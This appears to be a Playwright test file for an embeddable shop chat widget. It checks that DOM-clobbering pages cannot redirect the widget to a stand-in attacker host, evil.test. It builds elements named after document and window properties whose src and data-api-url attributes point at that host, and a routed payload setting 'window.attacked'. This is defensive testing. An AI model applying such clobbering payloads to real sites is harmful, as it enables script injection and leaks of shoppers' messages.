// Pages whose HTML answers to the names of what the widget reads from them. In a shop's reviews an <img name="currentScript"> is no script, and
// still it stands before the document's own `currentScript`. Here every name that a document and a window have is taken at once, by each
// kind of element that can take one, and by scripts of the page's; with every kind of tag, as released. What is put in points at a server
// of an attacker's: a widget that asks him for anything has run his code or told him what the shopper says.
//
// Playwright reads pages by way of their documents and functions, so what is read here is read through prototypes, over the browser's own wire.
import assert from 'node:assert/strict';
import { test } from 'node:test';
import { watch_page } from '../rig/browsers/browser.mjs';
import { start_shop } from '../rig/pages/shop_page.mjs';
import { needs_browser, stage_of } from '../rig/suite.mjs';
import { until } from '../rig/widget.mjs';
import { file_stage } from '../release/file_stage.mjs';
import { open_releases } from '../release/stage.mjs';
import { policy_N } from './strict_shop.mjs';

const long = process.env.SHOPBELL_LONG === '1';
const stage = file_stage();
const parts = needs_browser.skip ? undefined : await open_releases(stage, ['1.0.0']);
await parts?.promote('1.0.0');

// --- the table of names -----------------------------------------------------------------------------------------------------------------
/** What is ours, and what some browsers lack: there an element's name is all that answers. */
const own_names = 'Shopbell TradeZoneChatEnhanced'.split(' ');
const not_everywhere =
  'trustedTypes requestIdleCallback WebAssembly AudioWorkletNode visualViewport navigation scheduler'.split(
    ' ',
  );

async function names_of_a_page() {
  const page = await parts.browser.new_page();
  const names = await page.evaluate(() => {
    const found = new Set();
    for (let one = document; one; one = Object.getPrototypeOf(one))
      for (const name of Object.getOwnPropertyNames(one)) found.add(name);
    for (const name of Object.getOwnPropertyNames(window)) found.add(name);
    return [...found];
  });
  await page.context().close();
  return [...names, ...own_names, ...not_everywhere];
}
const names = parts ? await names_of_a_page() : [];

// --- what a page does with a name -------------------------------------------------------------------------------------------------------
const evil = 'http://evil.test';
const bait = `src="${evil}/shopbell.js" data-api-url="${evil}" data-script-url="${evil}/shopbell.js"`;
const each = (make) => names.map(make).join('\n');
const takings = {
  img: { html: () => each((name) => `<img name="${name}" id="${name}" ${bait}>`) },
  form: {
    html: () => each((name) => `<form name="${name}" id="${name}" ${bait}><input name="init"></form>`),
  },
  object: { html: () => each((name) => `<object name="${name}" id="${name}"></object>`) },
  // Without an address: a browser takes long to find out that it has no plug-in for so many.
  embed: { html: () => each((name) => `<embed name="${name}">`) },
  section: { html: () => each((name) => `<section id="${name}"></section>`) },
  'two of a name': { html: () => each((name) => `<a id="${name}" ${bait}></a><img name="${name}" ${bait}>`) },
  iframe: {
    html: () =>
      [...own_names, ...not_everywhere, 'currentScript', 'body', 'head', 'createElement']
        .map((name) => `<iframe name="${name}" src="${evil}/frame"></iframe>`)
        .join('\n'),
  },
  'a browser that has less': {
    script: `for (const name of ${JSON.stringify(not_everywhere.filter((name) => name !== 'WebAssembly'))}) delete window[name];`,
    html: () => takings.img.html(),
  },
  "the page's scripts": {
    script: `for (const name of ${JSON.stringify(own_names)}) window[name] = 'mine';
      for (let one = Document.prototype; one; one = Object.getPrototypeOf(one))
        for (const name of Object.getOwnPropertyNames(one))
          try { Object.defineProperty(document, name, { configurable: true, get() { throw new Error('document.' + name); } }); } catch {}
      window.origin = 'Berlin';`,
    html: () => '',
  },
};

// --- the tags -----------------------------------------------------------------------------------------------------------------------------
const options = (api) => `data-api-url="${api}" data-api-key="demo" data-idempotency="on"`;
const tags = {
  moving: (site) =>
    `<script src="${site}/shopbell.js" crossorigin="anonymous" ${options(site)} async></script>`,
  pinned: (site) =>
    `<script src="${site}/1.0.0/shopbell.js" crossorigin="anonymous" ${options(site)} async></script>`,
  bare: (site) => `<script src="${site}/1.0.0/shopbell.js" crossorigin="anonymous"></script>
    <script>window.Shopbell.init({ apiUrl: '${site}', apiKey: 'demo', idempotency: 'on' });</script>`,
  old: (site) => `<script src="${site}/widget/chat-widget-enhanced.js" ${options(site)}></script>`,
  'old, bare': (site) => `<script src="${site}/widget/chat-widget-enhanced.js"></script>
    <script>window.TradeZoneChatEnhanced.init({ apiUrl: '${site}', apiKey: 'demo', idempotency: 'on' });</script>`,
  package: (site) => `<script type="module">import { init } from '${site}/1.0.0/npm/index.js';
    init({ site: '${site}', apiKey: 'demo', idempotency: 'on' });</script>`,
};

async function open_page(t, { tag, taking: { html = () => '', script = '' } = {}, strict = false }) {
  const own_stage = stage_of(t);
  const site = parts.gateway.url;
  const nonce = strict ? ` nonce="${policy_N.nonce}"` : '';
  const page_html = `<!doctype html><html lang="en"><head><meta charset="utf-8"><title>Lamp</title><link rel="icon" href="data:,">
<script>${script}</script></head><body><h1>Desk lamp</h1>\n${html()}\n${tag(site)}</body></html>`;
  const shop = await start_shop({
    '/': {
      html: page_html.replaceAll('<script', `<script${nonce}`),
      headers: strict ? { 'content-security-policy': policy_N.rules } : {},
    },
  });
  own_stage.defer(shop.close);
  const context = await parts.browser.new_context({ reducedMotion: 'reduce' });
  own_stage.defer(() => context.close());
  const page = watch_page(await context.newPage());
  // A picture is fetched by the page itself; all else would be of the widget's making.
  page.asked_evil = [];
  await context.route(`${evil}/**`, (route) => {
    const kind = route.request().resourceType();
    if (!['image', 'document', 'other'].includes(kind))
      page.asked_evil.push(`${kind} ${route.request().url()}`);
    return route.fulfill({
      contentType: kind === 'document' ? 'text/html' : 'text/javascript',
      body: kind === 'document' ? 'a frame' : 'window.attacked = true;',
      headers: { 'access-control-allow-origin': '*' },
    });
  });
  await page.goto(shop.url, { waitUntil: 'domcontentloaded' });
  const wire = await context.newCDPSession(page);
  page.read = async (fn, ...given) => {
    const expression = `(${fn})(...${JSON.stringify(given)})`;
    const { result, exceptionDetails } = await wire.send('Runtime.evaluate', {
      expression,
      returnByValue: true,
    });
    if (exceptionDetails) throw new Error(exceptionDetails.exception?.description ?? exceptionDetails.text);
    return result.value;
  };
  return page;
}

/** Where a part is, and how many finished replies there are. */
const seen = (page, wanted = 'launcher') =>
  page.read((name) => {
    const find = Document.prototype.querySelectorAll;
    const hosts = find.call(window.document, 'shopbell-widget');
    const root = hosts[0]?.shadowRoot;
    const box = root?.querySelector(`[part~=${name}]`)?.getBoundingClientRect();
    return {
      hosts: hosts.length,
      x: box && box.x + box.width / 2,
      y: box && box.y + box.height / 2,
      wide: box?.width > 0,
      done: root?.querySelectorAll('[data-author=agent][data-state=done]').length ?? 0,
    };
  }, wanted);

async function click(page, name) {
  const place = await until(
    `the ${name}`,
    async () => {
      const place = await seen(page, name);
      return place.wide && place;
    },
    { seen: () => [page.console_lines.slice(-5), page.page_errors] },
  );
  await page.mouse.click(place.x, place.y);
}

async function converse(page) {
  await click(page, 'launcher');
  await click(page, 'box');
  await page.keyboard.type('do you have a lamp');
  await page.keyboard.press('Enter');
  await until('an answer', async () => (await seen(page)).done === 1, {
    timeout_ms: 20_000,
    seen: async () => [await seen(page), page.console_lines.slice(-5), page.page_errors],
  });
  assert.equal((await seen(page)).hosts, 1, 'one widget');
  assert.deepEqual(page.asked_evil, [], 'what the attacker was asked for');
  assert.equal(await page.read(() => Object.hasOwn(window, 'attacked')), false, 'nothing of his ran');
  assert.deepEqual(page.page_errors, []);
}

// The short form: each way to take names with one tag, and the worst of them with each tag under the strict policy.
const tag_names = Object.keys(tags);
Object.keys(takings).forEach((what, i) => {
  for (const name of long ? tag_names : [tag_names[i % tag_names.length]])
    test(`${name} tag: every name is taken by ${what}`, needs_browser, async (t) =>
      converse(await open_page(t, { tag: tags[name], taking: takings[what] })),
    );
});
for (const what of long ? Object.keys(takings) : ['img'])
  // The package needs a policy of another name (npm_package.test.mjs).
  for (const name of tag_names.filter((name) => name !== 'package'))
    test(`${name} tag, nonces and Trusted Types: every name is taken by ${what}`, needs_browser, async (t) =>
      converse(await open_page(t, { tag: tags[name], taking: takings[what], strict: true })),
    );

test(
  'an optimiser runs the tag as a module: it says what is missing, and init takes scriptUrl',
  needs_browser,
  async (t) => {
    const as_module = (site) => `<img src="${evil}/shopbell.js" ${bait}>
    <script type="module" src="${site}/1.0.0/shopbell.js" ${options(site)}></script>`;
    const page = await open_page(t, { tag: as_module });
    const said = () => page.console_lines.filter(({ text }) => text.includes('document.currentScript'));
    await until('a line in the console', () => said().length);
    assert.equal((await seen(page)).hosts, 0, 'nothing was guessed');
    await page.read((site) => {
      window.Shopbell.init({
        scriptUrl: `${site}/1.0.0/shopbell.js`,
        apiUrl: site,
        apiKey: 'demo',
        idempotency: 'on',
      });
    }, parts.gateway.url);
    await converse(page);
    assert.equal(said().length, 1);
  },
);
